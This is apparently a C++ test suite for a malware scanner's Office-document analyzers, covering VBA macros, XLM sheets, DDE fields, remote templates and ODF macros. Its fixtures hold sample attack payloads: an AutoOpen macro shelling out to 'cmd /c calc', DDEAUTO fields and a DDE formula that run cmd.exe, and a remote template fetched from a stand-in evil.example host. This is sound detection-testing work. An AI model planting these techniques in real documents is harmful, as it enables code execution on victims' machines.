// Tests for analyzers/office: VBA heuristics, the compound-file analyzer (VBA,
// XLM, encryption, embedded objects) and the OOXML/ODF part analyzer (remote
// templates, external links, DDE, macro sheets, ODF macros), on objects built
// in-process and on the oletools corpus (../shared/testdata) when present.
// Ends with truncations and bit flips of every fixture through both analyzers.
#define DOCTEST_CONFIG_IMPLEMENT_WITH_MAIN
#include <doctest/doctest.h>
#include <stdio.h>

#include <filesystem>
#include <fstream>
#include <random>
#include <string>
#include <vector>

#include "analyzers/analyzer.h"
#include "analyzers/office/vba_heuristics.h"
#include "analyzers/office/xml_scan.h"
#include "tests/unpack/ole2/cfb_writer.h"

namespace sandgate {
namespace {

using testing::CfbWriter;

const std::filesystem::path kCorpus =
    std::filesystem::path(SANDGATE_SOURCE_ROOT) / ".." / "shared" / "testdata" / "oletools";

bool corpus_present() {
  std::error_code ec;
  return std::filesystem::exists(kCorpus, ec);
}

std::string read_file(const std::filesystem::path& p) {
  std::ifstream in(p, std::ios::binary);
  return std::string((std::istreambuf_iterator<char>(in)), {});
}

// One part of an OOXML package, read with `unzip -p` (the corpus files are
// plain zips; only the .zip wrappers are encrypted).
std::string zip_part(const std::filesystem::path& zip, const std::string& part) {
  std::string cmd = "unzip -p '" + zip.string() + "' '" + part + "' 2>/dev/null";
  FILE* p = ::popen(cmd.c_str(), "r");
  if (!p) return {};
  std::string out;
  char buf[65536];
  size_t n;
  while ((n = fread(buf, 1, sizeof buf, p)) > 0) out.append(buf, n);
  ::pclose(p);
  return out;
}

Analyzer& analyzer(std::string_view name) {
  static std::vector<std::unique_ptr<Analyzer>> all = AnalyzerRegistry::instance().create_all();
  for (auto& a : all)
    if (a->name() == name) return *a;
  FAIL("no analyzer " << name);
  throw 0;
}

Object make_object(std::string name, std::string label, std::string bytes) {
  Object o;
  o.depth = 1;
  o.name = std::move(name);
  o.path = "doc/" + o.name;
  o.type.label = std::move(label);
  o.size = bytes.size();
  o.bytes = memory_source(std::move(bytes));
  return o;
}

// Runs both Office analyzers, as the engine would.
Object analyze(std::string name, std::string label, std::string bytes) {
  Object o = make_object(std::move(name), std::move(label), std::move(bytes));
  analyzer("office.ole2").analyze(o);
  analyzer("office.parts").analyze(o);
  return o;
}

const Finding* finding(const Object& o, std::string_view id) {
  for (const auto& f : o.findings)
    if (f.id == id) return &f;
  return nullptr;
}

// ---------------------------------------------------------------------------
TEST_CASE("vba heuristics: auto-exec names, suspicious calls, obfuscation") {
  office::VbaIndicators ind;
  office::scan_vba_source(
      "Attribute VB_Name = \"ThisDocument\"\r\n"
      "Private Sub Document_Open()\r\n"
      "  ' Shell in a comment does not count: AutoClose\r\n"
      "  Set o = CreateObject(\"WScript.Shell\")\r\n"
      "  x = StrReverse(\"exe.clac\")\r\n"
      "End Sub\r\n"
      "Sub InkPicture1_Painted()\r\nEnd Sub\r\n",
      &ind);
  CHECK(ind.autoexec.count("Document_Open"));
  CHECK(ind.autoexec.count("InkPicture1_Painted"));
  CHECK_FALSE(ind.autoexec.count("AutoClose"));  // only in a comment
  CHECK(ind.suspicious.count("CreateObject"));
  CHECK(ind.suspicious.count("WScript.Shell"));
  CHECK(ind.suspicious.count("StrReverse"));

  office::VbaIndicators chr;
  std::string src = "x = ";
  for (int i = 0; i < 40; ++i) src += "Chr(65) & ";
  src += "\"" + std::string(120, 'A') + "\"";
  office::scan_vba_source(src, &chr);
  CHECK(chr.suspicious.count("Chr() chain (40 calls)"));
  CHECK(chr.suspicious.count("long base64 string"));

  office::VbaIndicators clean;
  office::scan_vba_source("Sub FormatTable()\r\n  Selection.Font.Bold = True\r\nEnd Sub\r\n", &clean);
  CHECK(clean.autoexec.empty());
  CHECK(clean.suspicious.empty());
}

// ---------------------------------------------------------------------------
std::string vba_bin(const std::string& source) {
  CfbWriter w;
  testing::add_vba_project(w, "", {{"ThisDocument", "Attribute VB_Name = \"ThisDocument\"\r\n" + source}});
  return w.build();
}

TEST_CASE("ole2 analyzer: AutoOpen macro that shells out") {
  Object o = analyze("word/vbaProject.bin", "ole2",
                     vba_bin("Sub AutoOpen()\r\n  Shell \"cmd /c calc\", vbHide\r\nEnd Sub\r\n"));
  REQUIRE(finding(o, "office.vba.present"));
  CHECK(finding(o, "office.vba.present")->evidence == "ThisDocument");
  CHECK(finding(o, "office.vba.present")->severity == Severity::medium);
  REQUIRE(finding(o, "office.vba.autoexec"));
  CHECK(finding(o, "office.vba.autoexec")->severity == Severity::high);
  CHECK(finding(o, "office.vba.autoexec")->evidence == "AutoOpen");
  REQUIRE(finding(o, "office.vba.suspicious"));
  CHECK(finding(o, "office.vba.suspicious")->evidence.find("Shell") != std::string::npos);
  CHECK(finding(o, "office.vba.suspicious")->evidence.find("cmd /c") != std::string::npos);
  CHECK(o.facts["office.has_macros"] == "true");
  CHECK(o.facts["office.vba.modules"] == "ThisDocument");
}

TEST_CASE("ole2 analyzer: a harmless macro is present but neither autoexec nor suspicious") {
  Object o = analyze("Macros.doc", "ole2", vba_bin("Sub Tidy()\r\n  Selection.Font.Bold = True\r\nEnd Sub\r\n"));
  CHECK(finding(o, "office.vba.present"));
  CHECK_FALSE(finding(o, "office.vba.autoexec"));
  CHECK_FALSE(finding(o, "office.vba.suspicious"));
  CHECK(o.facts["office.has_macros"] == "true");
}

TEST_CASE("ole2 analyzer: no VBA, no macro facts") {
  CfbWriter w;
  w.add_stream("WordDocument", std::string(700, '\0'));
  Object o = analyze("plain.doc", "ole2", w.build());
  CHECK(o.findings.empty());
  CHECK(o.facts.count("office.has_macros") == 0);
}

std::string biff_record(uint16_t type, const std::string& data) {
  std::string r;
  testing::put16(r, type);
  testing::put16(r, static_cast<uint16_t>(data.size()));
  return r + data;
}

TEST_CASE("ole2 analyzer: a BIFF8 workbook with a hidden Excel 4.0 macro sheet") {
  std::string sheet;
  testing::put32(sheet, 0x1000);
  sheet += '\x01';  // hidden
  sheet += '\x01';  // dt = macro sheet
  sheet += '\x06';
  sheet += '\x00';
  sheet += "Macro1";
  std::string normal;
  testing::put32(normal, 0x2000);
  normal += std::string("\x00\x00\x06\x00", 4) + "Sheet1";
  std::string wb = biff_record(0x0809, std::string(16, '\0')) + biff_record(0x0085, normal) +
                   biff_record(0x0085, sheet) + biff_record(0x000A, "");
  CfbWriter w;
  w.add_stream("Workbook", wb + std::string(4096, '\0'));
  Object o = analyze("book.xls", "ole2", w.build());
  REQUIRE(finding(o, "office.xlm"));
  CHECK(finding(o, "office.xlm")->evidence == "Macro1 (hidden)");
  CHECK(o.facts["office.has_macros"] == "true");
}

TEST_CASE("ole2 analyzer: encrypted OOXML and embedded objects") {
  CfbWriter w;
  w.add_stream("EncryptionInfo", std::string(200, 'i'));
  w.add_stream("EncryptedPackage", std::string(5000, 'p'));
  Object o = analyze("secret.docx", "ole2", w.build());
  REQUIRE(finding(o, "office.encrypted"));
  CHECK(finding(o, "office.encrypted")->severity == Severity::medium);

  CfbWriter e;
  e.add_stream("ObjectPool/_1/\x01Ole10Native", testing::ole10native("a.exe", "MZ", true));
  e.add_stream("ObjectPool/_2/Equation Native", "eq");
  Object p = analyze("obj.doc", "ole2", e.build());
  CHECK(finding(p, "office.embedded_object"));
  CHECK(finding(p, "office.equation_editor"));
}

// ---------------------------------------------------------------------------
const char* kRelsTemplate =
    R"(<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm?a=1&amp;b=2" TargetMode="External"/>
<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://www.linkedin.com/in/someone" TargetMode="External"/>
<Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/>
</Relationships>)";

TEST_CASE("parts: a remote attachedTemplate is office.remote_template with the URL") {
  Object o = analyze("word/_rels/settings.xml.rels", "xml", kRelsTemplate);
  REQUIRE(finding(o, "office.remote_template"));
  CHECK(finding(o, "office.remote_template")->severity == Severity::high);
  CHECK(finding(o, "office.remote_template")->evidence ==
        "attachedTemplate: http://evil.example/t.dotm?a=1&b=2");
  CHECK_FALSE(finding(o, "office.external_link"));  // the hyperlink is not one
  CHECK(o.facts["office.hyperlinks"] == "1");
}

TEST_CASE("parts: other external targets, and '>' inside attribute values") {
  Object o = analyze("xl/externalLinks/_rels/externalLink1.xml.rels", "xml",
                     R"(<Relationships><Relationship Type="http://x/externalLinkPath" Target="file:///\\srv\a>b.xlsx" TargetMode='External'/>)"
                     R"(<Relationship Type="http://x/oleObject" Target="mhtml:http://evil/!x-usc:http://evil" TargetMode="External"/></Relationships>)");
  REQUIRE(finding(o, "office.external_link"));
  CHECK(finding(o, "office.external_link")->evidence == "externalLinkPath: file:///\\\\srv\\a>b.xlsx");
  REQUIRE(finding(o, "office.remote_object"));
  CHECK(finding(o, "office.remote_object")->severity == Severity::high);
  Object internal = analyze("word/_rels/document.xml.rels", "xml",
                            R"(<Relationships><Relationship Type="http://x/attachedTemplate" Target="t.dotx"/></Relationships>)");
  CHECK(internal.findings.empty());
}

TEST_CASE("parts: DDE fields split across runs, in fldSimple, in Excel") {
  Object split = analyze(
      "word/document.xml", "xml",
      R"(<w:document><w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>)"
      R"(<w:r><w:instrText xml:space="preserve"> DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText></w:r>)"
      R"(<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:document>)");
  REQUIRE(finding(split, "office.dde"));
  CHECK(finding(split, "office.dde")->severity == Severity::high);
  CHECK(finding(split, "office.dde")->evidence.find("DDEAUTO c:") == 0);

  Object simple = analyze("word/footer1.xml", "xml",
                          R"(<w:ftr><w:fldSimple w:instr=" DDE &quot;cmd&quot; &quot;/c calc&quot; "/></w:ftr>)");
  CHECK(finding(simple, "office.dde"));

  Object benign = analyze(
      "word/document.xml", "xml",
      R"(<w:p><w:fldChar w:fldCharType="begin"/><w:instrText> PAGE </w:instrText><w:fldChar w:fldCharType="end"/>)"
      R"(<w:fldSimple w:instr="TOC \o"/><w:t>DDEAUTO in plain text is no field</w:t></w:p>)");
  CHECK(benign.findings.empty());

  Object link = analyze("xl/externalLinks/externalLink1.xml", "xml",
                        R"(<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>)");
  CHECK(finding(link, "office.dde"));
  Object formula = analyze("xl/worksheets/sheet1.xml", "xml",
                           R"(<c r="A1"><f>cmd|'/c calc.exe'!A0</f></c><c><f>SUM(A1:A3)</f></c>)");
  REQUIRE(finding(formula, "office.dde"));
  CHECK(finding(formula, "office.dde")->evidence == "formula cmd|'/c calc.exe'!A0");
  Object sum = analyze("xl/worksheets/sheet2.xml", "xml", R"(<c><f>SUM(A1:A3)&amp;"|"&amp;"!"</f></c>)");
  CHECK_FALSE(finding(sum, "office.dde"));
}

TEST_CASE("parts: XLM sheets, embeddings, ActiveX, ODF macros") {
  Object xlm = analyze("xl/macrosheets/sheet1.xml", "xml", "<xm:macrosheet/>");
  CHECK(finding(xlm, "office.xlm"));
  CHECK(xlm.facts["office.has_macros"] == "true");
  Object ct = analyze("[Content_Types].xml", "xml",
                      R"(<Types><Override PartName="/xl/macrosheets/sheet1.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/></Types>)");
  CHECK(finding(ct, "office.xlm"));
  Object emb = analyze("word/embeddings/oleObject1.bin", "ole2", "not really a cfb");
  CHECK(finding(emb, "office.embedded_object"));
  Object ax = analyze("word/activeX/activeX1.xml", "xml", "<ax:ocx/>");
  CHECK(finding(ax, "office.embedded_object"));
  Object basic = analyze("Basic/Standard/Module1.xml", "xml",
                         R"(<script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1" script:language="StarBasic">Sub Main
Shell("calc")
End Sub</script:module>)");
  REQUIRE(finding(basic, "odf.macro"));
  CHECK(finding(basic, "odf.macro")->evidence == "Module1");
  CHECK(basic.facts["office.has_macros"] == "true");
  Object lib = analyze("Basic/script-lc.xml", "xml", R"(<library:libraries/>)");
  CHECK(lib.findings.empty());
  Object ev = analyze("content.xml", "xml",
                      R"(<office:document-content><office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="office:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/></office:event-listeners></office:scripts></office:document-content>)");
  REQUIRE(finding(ev, "odf.macro"));
  CHECK(finding(ev, "odf.macro")->evidence.find("office:load -> vnd.sun.star.script:Standard.Module1.Main") == 0);
  // Root objects and unrelated parts are not read at all.
  Object root = make_object("word/document.xml", "xml", "<w:fldSimple w:instr=\"DDE x\"/>");
  root.depth = 0;
  analyzer("office.parts").analyze(root);
  CHECK(root.findings.empty());
}

TEST_CASE("xml scan: tags split across chunks and very long tags") {
  struct H final : office::XmlHandler {
    std::vector<std::string> tags;
    void on_tag(std::string_view t) override { tags.emplace_back(t); }
  } h;
  office::XmlTagScanner s(h);
  std::string doc = "<a x=\"1>2\"><b/>" + std::string("<c ") + std::string(200000, 'y') + "><d>";
  for (size_t i = 0; i < doc.size(); i += 7) s.feed(std::string_view(doc).substr(i, 7));
  REQUIRE(h.tags.size() == 4);
  CHECK(h.tags[0] == "a x=\"1>2\"");
  CHECK(office::attribute(h.tags[0], "x") == "1>2");
  CHECK(h.tags[2].size() == office::XmlTagScanner::kMaxTag);
  CHECK(h.tags[3] == "d");
  CHECK(office::decode_entities("&#x41;&#66;&amp;&bogus;&#x110000;") == "AB&&bogus;&#x110000;");
}

// ---------------------------------------------------------------------------
// The oletools corpus: real files made by Microsoft Office.

TEST_CASE("corpus: real Office files") {
  if (!corpus_present()) {
    MESSAGE("SKIPPED: oletools corpus not found at " << kCorpus.string());
    return;
  }
  Object xls = analyze("x.xls", "ole2", read_file(kCorpus / "excel4-macros/excel4_sample_macro.xls"));
  CHECK(finding(xls, "office.xlm"));
  for (const char* f : {"encrypted/encrypted.doc", "encrypted/encrypted.xls", "encrypted/encrypted.docx",
                        "encrypted/encrypted.ppt"}) {
    Object e = analyze(f, "ole2", read_file(kCorpus / f));
    CHECK_MESSAGE(finding(e, "office.encrypted"), f);
  }
  std::string vba = zip_part(kCorpus / "oleform/oleform-PR314.docm", "word/vbaProject.bin");
  REQUIRE(vba.size() > 1000);
  Object v = analyze("word/vbaProject.bin", "ole2", vba);
  REQUIRE(finding(v, "office.vba.present"));
  CHECK(finding(v, "office.vba.present")->evidence == "NewMacros, ThisDocument, UserFormTEST1, UserFormTest2");
  CHECK_FALSE(finding(v, "office.vba.malformed"));

  Object dde = analyze("word/document.xml", "xml", zip_part(kCorpus / "msodde/dde-test.docx", "word/document.xml"));
  REQUIRE(finding(dde, "office.dde"));
  CHECK(finding(dde, "office.dde")->evidence.find("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe") != std::string::npos);
  Object xdde = analyze("xl/externalLinks/externalLink1.xml", "xml",
                        zip_part(kCorpus / "msodde/dde-test.xlsx", "xl/externalLinks/externalLink1.xml"));
  CHECK(finding(xdde, "office.dde"));
  Object clean = analyze("word/document.xml", "xml",
                         zip_part(kCorpus / "msodde/harmless-clean.docx", "word/document.xml"));
  CHECK(clean.findings.empty());
  Object ext = analyze("word/_rels/document.xml.rels", "xml",
                       zip_part(kCorpus / "oleobj/external_link/sample_with_external_link_to_doc.docx",
                                "word/_rels/document.xml.rels"));
  REQUIRE(finding(ext, "office.remote_object"));
  CHECK(finding(ext, "office.remote_object")->evidence.find("harmless-clean.doc") != std::string::npos);
}

// ---------------------------------------------------------------------------
TEST_CASE("robustness: truncations and bit flips through both analyzers") {
  std::vector<std::pair<std::string, std::string>> fx = {
      {"word/vbaProject.bin", vba_bin("Sub AutoOpen()\r\nShell \"calc\"\r\nEnd Sub\r\n")},
      {"word/_rels/settings.xml.rels", kRelsTemplate},
      {"word/document.xml",
       R"(<w:fldChar w:fldCharType="begin"/><w:instrText>DDEAUTO x</w:instrText><w:fldChar w:fldCharType="end"/>)"},
      {"Basic/Standard/Module1.xml", R"(<script:module script:name="M">x</script:module>)"},
  };
  if (corpus_present()) {
    for (const char* f : {"excel4-macros/excel4_sample_macro.xls", "encrypted/encrypted.doc",
                          "oleobj/sample_with_calc_embedded.doc", "msodde/harmless-clean.doc"})
      fx.push_back({f, read_file(kCorpus / f)});
    fx.push_back({"word/vbaProject.bin",
                  zip_part(kCorpus / "oleform/oleform-PR314.docm", "word/vbaProject.bin")});
  }
  std::mt19937 rng(99);
  size_t runs = 0;
  for (const auto& [name, bytes] : fx) {
    for (size_t k = 0; k <= 20; ++k) {
      analyze(name, "ole2", bytes.substr(0, bytes.size() * k / 20));
      ++runs;
    }
    for (int i = 0; i < 150 && !bytes.empty(); ++i) {
      std::string g = bytes;
      for (int k = 0; k < 1 + int(rng() % 6); ++k) {
        size_t at = rng() % g.size();
        if (rng() % 2 && g.size() > 600) at = rng() % 600;
        g[at] = static_cast<char>(g[at] ^ (1u << (rng() % 8)));
      }
      analyze(name, "ole2", g);
      ++runs;
    }
  }
  CHECK(runs > 500);
}

}  // namespace
}  // namespace sandgate
